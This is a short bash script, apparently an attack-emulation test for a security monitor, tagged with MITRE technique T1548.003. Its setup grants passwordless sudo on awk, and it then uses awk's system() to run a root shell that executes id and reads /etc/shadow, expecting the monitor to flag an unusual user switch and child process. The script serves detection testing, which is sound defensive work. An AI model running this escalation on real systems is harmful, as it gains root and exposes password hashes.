#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1548.003 Abuse Elevation Control Mechanism: Sudo and Sudo Caching
# behaviour: a user lists its sudo rights, finds awk allowed (for log reports) and runs a root shell through awk's system()
# as: user
# setup: echo "$SNTL_USER ALL=(root) NOPASSWD: /usr/bin/awk" > "/etc/sudoers.d/sntl-ev-$SNTL_ID" && chmod 440 "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# teardown: rm -f "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# expect: unusual_switch_user, unusual_child
set -u
sudo -n -l > /dev/null 2>&1 || true
sudo -n /usr/bin/awk 'BEGIN { system("/bin/sh -c \"id; cat /etc/shadow > /dev/null\"") }'
